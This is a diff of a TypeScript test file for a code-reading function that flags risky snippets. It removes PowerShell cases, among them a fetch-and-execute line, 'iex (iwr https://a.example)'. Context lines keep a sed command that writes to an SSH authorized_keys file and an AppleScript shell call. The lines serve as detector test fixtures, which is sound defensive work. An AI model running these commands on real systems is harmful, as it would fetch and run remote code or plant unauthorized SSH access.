@@ -75,8 +75,6 @@ const READS: readonly (readonly [language: Language, text: string, found: readon
   ["sed", "s/e x/e/g; /e/d", []],
   ["sed", "w /home/ada/.ssh/authorized_keys", ["credential-change"]],
   ["applescript", 'do shell script "id"', ["sh id"]],
-  ["powershell", "iex (iwr https://a.example)", ["hidden-code", "network a.example"]],
-  ["powershell", "Get-ChildItem | Select-Object Name", []],
 ];
 
 describe("readCode", () => {
@@ -101,7 +99,6 @@ describe("readCode", () => {
         "awk",
         "sed",
         "applescript",
-        "powershell",
       ] as const) {
         expect(() => readCode(language, text, SITE)).not.toThrow();
       }
